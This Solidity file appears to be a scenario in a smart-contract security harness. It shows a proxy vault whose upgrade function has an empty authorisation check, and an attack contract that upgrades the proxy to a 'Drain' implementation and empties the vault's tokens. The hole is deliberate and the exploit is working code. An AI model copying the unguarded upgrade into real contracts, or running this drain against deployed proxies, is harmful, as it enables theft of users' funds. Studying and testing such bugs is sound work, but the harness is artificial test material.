// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./UnprotectedWithdraw.sol";

/// A proxy after ERC-1967.
contract Proxy1967 {
    bytes32 internal constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    event Upgraded(address indexed implementation);

    constructor(address implementation) {
        assembly {
            sstore(SLOT, implementation)
        }
    }

    receive() external payable {}

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(SLOT), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// What runs behind it; anybody may say what runs next.
contract OpenUpgrade {
    bytes32 internal constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    IERC20 public immutable asset;
    mapping(address => uint256) public balanceOf;

    event Upgraded(address indexed implementation);
    event Deposit(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);

    constructor(IERC20 asset_) {
        asset = asset_;
    }

    function deposit(uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
        balanceOf[msg.sender] += amount;
        emit Deposit(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        asset.transfer(msg.sender, amount);
        emit Withdraw(msg.sender, amount);
    }

    function upgradeTo(address implementation) external {
        _authorise();
        assembly {
            sstore(SLOT, implementation)
        }
        emit Upgraded(implementation);
    }

    function _authorise() internal virtual {}
}

/// What an attacker runs instead.
contract Drain {
    function drain(IERC20 token, address to, uint256 amount) external {
        token.transfer(to, amount);
    }
}

contract UnprotectedUpgradeScene is Scene {
    Token public usd;
    OpenUpgrade public vault;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        vault = OpenUpgrade(payable(address(new Proxy1967(address(new OpenUpgrade(IERC20(address(usd))))))));
        usd.mint(address(vault), 2_500_000e18);
        _protect(address(vault));
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 1_000_000e18, address(vault));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 held = vault.balanceOf(who);
        if (held > 0 && dice >> 200 & 1 == 0) return (address(vault), 0, abi.encodeCall(OpenUpgrade.withdraw, (held)));
        return (address(vault), 0, abi.encodeCall(OpenUpgrade.deposit, (_amount(dice, 100e18, 20_000e18))));
    }
}

contract UnprotectedUpgradeAttack is Attack {
    OpenUpgrade private immutable vault;
    Drain private immutable evil = new Drain();

    constructor(UnprotectedUpgradeScene scene) Attack(scene) {
        vault = scene.vault();
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        if (index == 0) vault.upgradeTo(address(evil));
        Drain(address(vault)).drain(loot0, address(this), loot0.balanceOf(address(vault)) / (count - index));
    }
}
